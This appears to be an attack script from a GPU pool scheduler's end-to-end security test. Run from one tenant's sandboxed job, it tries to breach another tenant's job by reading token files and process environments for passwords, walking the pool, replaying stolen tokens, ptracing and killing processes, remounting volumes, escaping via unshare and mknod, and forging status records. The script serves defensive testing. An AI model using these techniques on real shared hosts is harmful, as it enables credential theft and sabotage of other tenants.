"""Tenant A's job in e2e_security.py: every attack on a shared node against tenant B's job on it,
tried from inside A's sandbox with the host's python3 (a job over the host root sees it).

Run as `python3 e2e_security_attack.py CONFIG` where CONFIG (JSON, written by the test) names what
an attacker would know or guess: the controller's URL and A's own user token (a tenant's member
has one), the node, B's job id, the host paths of the pool (the layout of a `gpupool up` pool is
documented), the host directory of the fake GPU device nodes, the volume's host path and B's
host pids (they stand for an attacker trying every number).

It prints one JSON line per attempt, {"attack": NAME, "got": true|false, "detail": ...}: got is
true when the attempt succeeded (read a file, signalled a process, was answered 2xx, wrote, ...),
and detail carries what it read, so that the test can also check that none of B's secrets nor
any token reached A's output. The last line is "ATTACKS-DONE"; the job then keeps running (the
test checks that it still counts as Running afterwards).
"""
import ctypes
import errno
import glob
import json
import os
import re
import signal
import subprocess
import sys
import urllib.error
import urllib.request

cfg = json.load(open(sys.argv[1]))
libc = ctypes.CDLL(None, use_errno=True)
TOKEN_RE = re.compile(r"gp[a-z]_[A-Za-z0-9_-]{16,}")
found_tokens = set()  # every token-like string A read anywhere


def report(attack, got, detail=""):
    print(json.dumps({"attack": attack, "got": bool(got), "detail": str(detail)[:600]}),
          flush=True)


def read(path, limit=4096):
    """(True, text) or (False, the error); a file that reads empty (a path the sandbox masks
    with /dev/null) gave nothing: False."""
    try:
        with open(path, "rb") as f:
            text = f.read(limit).decode(errors="replace")
        found_tokens.update(TOKEN_RE.findall(text))
        return text != "", text or "%s: empty" % path
    except OSError as e:
        return False, "%s: %s" % (path, e.strerror)


def http(method, url, token=None, body=None):
    hdrs = {"Content-Type": "application/json"}
    if token:
        hdrs["Authorization"] = "Bearer " + token
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(url, data=data, method=method, headers=hdrs)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status, r.read(1 << 20).decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read(512).decode(errors="replace")
    except OSError as e:
        return 0, str(e)


pool, node, b_job = cfg["pool"], cfg["node"], cfg["b_job"]
agent_dir = os.path.join(pool, "agents", node)
me = int(os.environ["GPUPOOL_JOB_ID"])
token = cfg["token"]

# ---- files: B's output, spec, work directory, checkpoint; the tokens; everything in the pool ----
# Before the sandbox a job was root on the host: every one of these opened.
for name, path in (("b_stdout", "%s/replicas/%d-0-%d/stdout.log" % (agent_dir, b_job,
                                                                    cfg["b_epoch"])),
                   ("b_spec", "%s/replicas/%d-0-%d/spec.json" % (agent_dir, b_job,
                                                                 cfg["b_epoch"])),
                   ("b_work", "%s/replicas/%d-0-%d/work/notes" % (agent_dir, b_job,
                                                                  cfg["b_epoch"])),
                   ("b_checkpoint", "%s/checkpoints/%s/%d/ckpt" % (pool, cfg["b_tenant"], b_job)),
                   ("admin_token", pool + "/admin.token"),
                   ("join_token", pool + "/join.token"),
                   ("agent_token", agent_dir + "/agent.token"),
                   ("metrics_token", pool + "/scrape.token")):
    ok, text = read(path)
    report("read_" + name, ok, text)
# Whatever else a search of the pool's directory finds: the test checks that no secret of B's
# and no token is in A's output. (B's checkpoint is looked at separately above.)
walked = []
for root, dirs, files in os.walk(pool):
    for f in files:
        path = os.path.join(root, f)
        ok, text = read(path, 512)
        if ok:
            walked.append(path)
            print(json.dumps({"walk": path, "text": text}), flush=True)
report("walk_pool", False, "%d files readable" % len(walked))
# The checkpoint root: any directory but A's own.
others = [p for p in glob.glob(os.path.join(pool, "checkpoints", "*", "*"))
          if not p.endswith("/%d" % me)]
listed = []
for p in others:
    try:
        listed += [os.path.join(p, f) for f in os.listdir(p)]
    except OSError:
        pass
report("list_other_checkpoints", listed, listed)
try:
    with open(os.path.join(pool, "checkpoints", cfg["b_tenant"], str(b_job), "planted"), "w") as f:
        f.write("from A\n")
    report("write_b_checkpoint", True, "planted a file")
except OSError as e:
    report("write_b_checkpoint", False, e)

# ---- processes: /proc/PID/environ with B's password; ptrace and kill of B ----
# Before the sandbox A saw B's processes in /proc, read DB_PASSWORD from their environ, ptraced
# and killed them.
seen, environ_hits = [], []
for d in os.listdir("/proc"):
    if not d.isdigit() or int(d) == os.getpid():
        continue
    seen.append(int(d))
    ok, text = read("/proc/%s/environ" % d, 65536)
    if ok and "DB_PASSWORD" in text:
        environ_hits.append((int(d), text))
report("proc_environ", environ_hits, environ_hits)
targets = sorted(set(cfg["b_host_pids"]) | {p for p, _ in environ_hits})
for pid in targets:
    ok, text = read("/proc/%d/environ" % pid, 65536)
    report("proc_environ_by_pid", ok, text)
    rc = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
    report("ptrace_attach", rc == 0, "pid %d: %s" % (pid, os.strerror(ctypes.get_errno())))
    if rc == 0:
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    for sig in (0, signal.SIGKILL):
        try:
            os.kill(pid, sig)
            report("kill_%d" % sig, True, "pid %d" % pid)
        except OSError as e:
            report("kill_%d" % sig, False, "pid %d: %s" % (pid, e.strerror))
report("processes_seen", False, "pids in A's /proc: %s" % seen)

# ---- the controller with A's own token, and any token A found ----
url = cfg["url"]
failed = {"replicas": [{"job": b_job, "replica": 0, "epoch": cfg["b_epoch"], "state": "Failed",
                        "exit_code": 99}]}
s, body = http("POST", "%s/v1/nodes/%s/heartbeat" % (url, node), token, failed)
report("heartbeat_user_token", 200 <= s < 300, "%d %s" % (s, body))
s, body = http("GET", "%s/v1/nodes/%s/desired" % (url, node), token)
report("desired_user_token", 200 <= s < 300, "%d %s" % (s, body))
for label, method, path in (("job", "GET", "/v1/jobs/%d" % b_job),
                            ("logs", "GET", "/v1/jobs/%d/logs" % b_job),
                            ("events", "GET", "/v1/jobs/%d/events" % b_job),
                            ("cancel", "POST", "/v1/jobs/%d/cancel" % b_job)):
    s, body = http(method, url + path, token, {} if method == "POST" else None)
    report("api_" + label, 200 <= s < 300, "%s %s: %d %s" % (method, path, s, body))
for t in sorted(found_tokens - {token}):
    s, body = http("POST", "%s/v1/nodes/%s/heartbeat" % (url, node), t, failed)
    report("heartbeat_found_token", 200 <= s < 300, "%s...: %d %s" % (t[:6], s, body))

# ---- the agent's own endpoint (its address from the API, which A may read) ----
s, body = http("GET", "%s/v1/nodes/%s" % (url, node), token)
try:
    address = json.loads(body)["address"]
except (ValueError, KeyError):
    address = ""
report("node_address", False, "%d %s" % (s, address))
if address:
    for t in [None, token] + sorted(found_tokens - {token}):
        s, body = http("GET", "http://%s/metrics" % address, t)
        names = sorted(set(re.findall(r'gpupool_job="([^"]*)"', body)))
        report("agent_metrics", 200 <= s < 300, "%s: %d, job names %s: %s" % (
            t and t[:6], s, names, body[:200]))
        s, body = http("GET", "http://%s/v1/replicas/%d-0-%d/logs?stream=stdout" %
                       (address, b_job, cfg["b_epoch"]), t)
        report("agent_logs", 200 <= s < 300, "%s: %d %s" % (t and t[:6], s, body))

# ---- the read-only volume: remount it read-write, write through the host path ----
# Before the sandbox a root job remounted it read-write and wrote to it.
vol = os.path.join(os.environ.get("GPUPOOL_DATA_DIR", "/data"), "dataset")
r = subprocess.run(["mount", "-o", "remount,rw", vol], capture_output=True, text=True)
report("remount_volume_rw", r.returncode == 0, r.stderr.strip())
MS_REMOUNT, MS_BIND = 32, 4096
rc = libc.mount(None, vol.encode(), None, MS_REMOUNT | MS_BIND, None)
report("mount_syscall_remount", rc == 0, os.strerror(ctypes.get_errno()))
for path in (os.path.join(vol, "labels"), os.path.join(cfg["vol"], "labels"),
             os.path.join(vol, "planted"), os.path.join(cfg["vol"], "planted")):
    try:
        with open(path, "a") as f:
            f.write("dog\n")
        report("write_volume", True, path)
    except OSError as e:
        report("write_volume", False, "%s: %s" % (path, e.strerror))

# ---- a user namespace of its own, to mount over what holds its limits ----
r = subprocess.run(["unshare", "-Urm", "sh", "-c", "mount -t tmpfs none %s && echo mounted" % vol],
                   capture_output=True, text=True)
report("unshare_Urm", r.returncode == 0 or "mounted" in r.stdout, (r.stdout + r.stderr).strip())
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
pid = os.fork()
if pid == 0:  # in a child: a success would change this process's namespaces
    os._exit(0 if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 else ctypes.get_errno())
_, status = os.waitpid(pid, 0)
report("unshare_syscall", os.WEXITSTATUS(status) == 0, os.strerror(os.WEXITSTATUS(status)))

# ---- every GPU: CUDA_VISIBLE_DEVICES set to all, every node opened (the container's and the
# host's fake ones, which a job over the host root can name) ----
os.environ["CUDA_VISIBLE_DEVICES"] = ",".join(cfg["gpu_uuids"])
reached = {}
for path in sorted(glob.glob("/dev/nvidia[0-9]*") + glob.glob(os.path.join(cfg["dev"],
                                                                             "nvidia[0-9]*"))):
    try:
        st = os.stat(path)
        fd = os.open(path, os.O_RDWR)
        os.close(fd)
        err = 0
    except OSError as e:
        err = e.errno
    # ENXIO: the open reached the (absent) driver, which the device cgroup allowed.
    if err in (0, errno.ENXIO, errno.ENODEV):
        reached[path] = os.minor(st.st_rdev)
    report("open_gpu_node", err in (0, errno.ENXIO, errno.ENODEV),
           "%s: %s" % (path, os.strerror(err) if err else "opened"))
print(json.dumps({"gpu_minors_reached": sorted(set(reached.values()))}), flush=True)
try:
    major = os.major(os.stat(os.path.join(cfg["dev"], "nvidia0")).st_rdev)
    os.mknod("/tmp/gpu-any", 0o666 | 0o020000, os.makedev(major, cfg["b_gpu"]))
    report("mknod_gpu", True, "made B's GPU node")
except OSError as e:
    report("mknod_gpu", False, e.strerror)

# ---- the replica's records: status.json and child.pid saying "exited 0" ----
# Before, the job wrote them in its replica directory and showed Succeeded while it kept running.
s, body = http("GET", "%s/v1/jobs/%d" % (url, me), token)
try:
    epoch = json.loads(body)["placement"][0]["epoch"]
except (ValueError, KeyError, IndexError):
    epoch = 0
candidates = ["%s/replicas/%d-0-%d" % (agent_dir, me, epoch)] + \
    glob.glob("%s/agents/*/replicas/%d-*" % (pool, me)) + ["/gpupool", os.getcwd()]
for d in sorted(set(candidates)):
    for name, text in (("status.json", '{"state": "exited", "exit_code": 0}\n'),
                       ("child.pid", "1 1\n")):
        path = os.path.join(d, name)
        try:
            with open(path, "w") as f:
                f.write(text)
            report("write_records", d.startswith(pool), path)
        except OSError as e:
            report("write_records", False, "%s: %s" % (path, e.strerror))

print("ATTACKS-DONE", flush=True)
